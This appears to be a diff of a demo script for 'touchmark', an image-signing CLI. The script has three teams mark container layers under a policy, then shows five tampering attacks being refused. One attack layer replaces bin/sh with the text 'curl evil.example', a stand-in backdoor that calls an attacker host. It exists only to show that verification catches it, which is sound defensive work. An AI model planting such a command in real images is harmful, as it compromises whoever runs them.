@@ -1,10 +1,11 @@
 /**
- * `npm start`: the main job, offline, on a layout on disk. Three teams build on each other's image; each verifies what it was
- * handed, adds its layer, signs, and hands on. The last one to receive it verifies every link, and refuses what was changed.
- * Every command is printed before it runs; pasted into a shell in this folder, they do the same.
+ * `npm start`: the main job, offline, on a layout on disk. Three teams build on each other's image; each checks what it was
+ * handed, adds its layer, marks it, and hands on. The last one to receive it proves whose every layer is; then five attacks
+ * are refused, each with its reason. Every command is printed before it runs; pasted into a shell in this folder, they do
+ * the same.
  */
 import { spawnSync } from 'node:child_process';
-import { mkdirSync, rmSync } from 'node:fs';
+import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
 import { dirname, join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 
@@ -38,124 +39,105 @@ function run(program, words, { expect = 0, quiet = false } = {}) {
   return result.stdout;
 }
 
-function layersOf(reference) {
+/** The digest of one layer of an image. */
+function layerOf(reference, index) {
   const { layers } = JSON.parse(run('touchmark', ['inspect', reference, '-o', 'json'], { quiet: true }));
-  return layers.map(layer => layer.digest);
+  return layers[index].digest;
 }
+
+const POLICY = ['--policy', 'work/policy.yaml'];
+const verify = (reference, expect, ...more) =>
+  run('touchmark', ['custody', 'verify', reference, ...POLICY, ...more], { expect });
 
 rmSync(join(root, 'work'), { recursive: true, force: true });
 mkdirSync(join(root, 'work'));
 
-say('# Three teams, three keys. Run these lines yourself, in this folder:');
+say('# Run these lines yourself, in this folder:');
 say('$ alias touchmark="node dist/cli/bin.js"');
 say(`$ export TOUCHMARK_PASSWORD=${quote(environment.TOUCHMARK_PASSWORD)}`);
 say('$ mkdir -p work');
-for (const team of ['base', 'runtime', 'app', 'eve'])
-  run('touchmark', ['key', 'generate', `work/${team}`], { quiet: true });
 
-say('\n# The base team builds an image and signs it.');
-run('add-layer', ['oci:work/image:base', 'etc/os-release=ID=demo']);
+say('\n# Three teams and a scanner, a key each. Eve belongs to none of them.');
+for (const name of ['linus', 'ada', 'grace', 'scanner', 'eve'])
+  run('touchmark', ['key', 'generate', `work/${name}`], { quiet: true });
+
+say('\n# The policy: who the teams are, in which order they build, and that the result must be scanned.');
 run('touchmark', [
-  'sign',
-  'oci:work/image:base',
-  '--key',
-  'work/base.key',
-  '--as',
-  'registry.example/base',
-  '--yes',
+  'policy',
+  'init',
+  'work/policy.yaml',
+  ...['--name', 'shop', '--repository', 'registry.example/*'],
+  ...['--team', 'base=work/linus.pub', '--team', 'runtime=work/ada.pub', '--team', 'app=work/grace.pub'],
+  ...['--team', 'security=work/scanner.pub', '--approval', 'scan=security'],
 ]);
 
-say('\n# The runtime team checks what it was handed, adds its layer, signs, and hands on.');
-run('touchmark', [
-  'verify',
-  'oci:work/image:base',
-  '--key',
-  'work/base.pub',
-  '--as',
-  'registry.example/base',
-]);
-run('add-layer', ['oci:work/image:runtime', '--from', 'oci:work/image:base', 'usr/bin/run=#!/bin/sh']);
-run('touchmark', [
-  'sign',
-  'oci:work/image:runtime',
-  '--key',
-  'work/runtime.key',
-  '--as',
-  'registry.example/runtime',
-  '--yes',
-]);
-
-say('\n# The application team does the same.');
-run('touchmark', [
-  'verify',
-  'oci:work/image:runtime',
-  '--key',
-  'work/runtime.pub',
-  '--as',
-  'registry.example/runtime',
-]);
-run('add-layer', ['oci:work/image:app', '--from', 'oci:work/image:runtime', 'app/main=echo hello']);
-run('touchmark', [
-  'sign',
-  'oci:work/image:app',
-  '--key',
-  'work/app.key',
-  '--as',
-  'registry.example/app',
-  '--yes',
-]);
-
-say('\n# It travels as one file, signatures and all, to where it will run.');
-for (const tag of ['base', 'runtime', 'app']) {
-  run('touchmark', ['copy', `oci:work/image:${tag}`, `oci-archive:work/delivery.tar:${tag}`]);
-}
-
-say(
-  '\n# There, every link of the chain is verified: who signed it, and that each image only adds to the one before.',
-);
-let before = [];
-for (const team of ['base', 'runtime', 'app']) {
-  const reference = `oci-archive:work/delivery.tar:${team}`;
-  run('touchmark', ['verify', reference, '--key', `work/${team}.pub`, '--as', `registry.example/${team}`]);
-  const layers = layersOf(reference);
-  const extended = layers.length === before.length + 1 && before.every((digest, i) => layers[i] === digest);
+const builds = [
+  { team: 'base', key: 'linus', files: ['etc/os-release=ID=demo', 'bin/sh=a shell'] },
+  { team: 'runtime', key: 'ada', on: 'base', files: ['usr/bin/run=a runtime'] },
+  { team: 'app', key: 'grace', on: 'runtime', files: ['opt/app/main=echo hello'] },
+];
+for (const { team, key, on, files } of builds) {
+  const image = `oci:work/image:${team}`;
   say(
-    `  ${team}: ${extended ? `layer ${layers.length - 1} is theirs, the ${before.length} below are untouched` : 'BROKEN CHAIN'}`,
+    on
+      ? `\n# The ${team} team adds its layer. Marking checks the chain below it first, then signs its own link.`
+      : `\n# The ${team} team builds an image and marks it.`,
   );
-  if (!extended) failures.push(`the layers of ${team} do not extend those below`);
-  before = layers;
+  run('add-layer', [image, ...(on ? ['--from', `oci:work/image:${on}`] : []), ...files]);
+  run('touchmark', [
+    ...['custody', 'mark', image, '--team', team, '--step', team],
+    ...(on ? ['--base', `oci:work/image:${on}`] : []),
+    ...['--as', `registry.example/${team}`, ...POLICY, '--key', `work/${key}.key`, '--yes'],
+  ]);
 }
 
-say('\n# Someone changes one byte of a layer: refused.');
-run('touchmark', ['copy', 'oci-archive:work/delivery.tar:app', 'oci:work/tampered:app'], { quiet: true });
-run('flip-byte', ['work/tampered', before.at(-1)]);
-run(
-  'touchmark',
-  ['verify', 'oci:work/tampered:app', '--key', 'work/app.pub', '--as', 'registry.example/app'],
-  { expect: 18 },
-);
-
-say('\n# Someone adds a layer of their own and signs it with their own key: refused.');
-run('add-layer', [
-  'oci:work/tampered:evil',
-  '--from',
-  'oci:work/image:app',
-  'app/backdoor=curl evil.example',
+say('\n# Not finished yet: the policy wants a scan.');
+verify('oci:work/image:app', 15);
+writeFileSync(join(root, 'work/report.json'), '{"findings":0}\n');
+say(`$ echo '{"findings":0}' > work/report.json`);
+run('touchmark', [
+  ...['custody', 'approve', 'oci:work/image:app', '--team', 'security', '--step', 'scan'],
+  ...['--evidence', 'report=work/report.json', '--as', 'registry.example/app'],
+  ...[...POLICY, '--key', 'work/scanner.key', '--yes'],
 ]);
-run(
-  'touchmark',
-  ['sign', 'oci:work/tampered:evil', '--key', 'work/eve.key', '--as', 'registry.example/app', '--yes'],
-  { quiet: true },
-);
-run(
-  'touchmark',
-  ['verify', 'oci:work/tampered:evil', '--key', 'work/app.pub', '--as', 'registry.example/app'],
-  { expect: 12 },
-);
+
+say('\n# It travels as one file, with everything that proves it, to where it will run.');
+run('touchmark', ['copy', 'oci:work/image:app', 'oci-archive:work/delivery.tar:app']);
+
+say('\n# There, offline: who put every layer there, and were they entitled to?');
+verify('oci-archive:work/delivery.tar:app', 0, '--offline');
+
+say('\n# Attack 1: one bit of the base layer is changed.');
+run('touchmark', ['copy', 'oci:work/image:app', 'oci:work/flipped:app'], { quiet: true });
+run('flip-byte', ['work/flipped', layerOf('oci:work/flipped:app', 0)]);
+verify('oci:work/flipped:app', 18);
+
+say('\n# Attack 2: Eve adds a layer and signs the image with her own key.');
+run('touchmark', ['copy', 'oci:work/image:app', 'oci:work/backdoor:app'], { quiet: true });
+run('add-layer', ['oci:work/backdoor:evil', '--from', 'oci:work/backdoor:app', 'bin/sh=curl evil.example']);
+run('touchmark', [
+  ...['sign', 'oci:work/backdoor:evil', '--as', 'registry.example/app', '--key', 'work/eve.key', '--yes'],
+]);
+verify('oci:work/backdoor:evil', 10);
+
+say('\n# Attack 3: she hangs the marks of the good image on hers.');
+run('lift-marks', ['oci:work/backdoor:app', 'oci:work/backdoor:evil']);
+verify('oci:work/backdoor:evil', 10);
+
+say('\n# Attack 4: the marks of the teams before are withheld.');
+run('touchmark', ['copy', 'oci:work/image:app', 'oci:work/withheld:app'], { quiet: true });
+run('withhold', ['work/withheld', 'app']);
+verify('oci:work/withheld:app', 15);
+
+say('\n# Attack 5: an image of the runtime team, well marked, is passed off as the application.');
+verify('oci:work/image:runtime', 12, '--as', 'registry.example/app');
 
 if (failures.length > 0) {
   process.stderr.write(`\nnot as expected:\n${failures.map(failure => `  ${failure}\n`).join('')}`);
   process.exitCode = 1;
 } else {
-  say('\n# All as expected: the chain verified, both changed images were refused. The files are in work/.');
+  say(
+    '\n# All as expected: every layer has its owner, five attacks were refused. The files are in work/; to see',
+  );
+  say('# the chain: touchmark custody show oci:work/image:app --policy work/policy.yaml');
 }
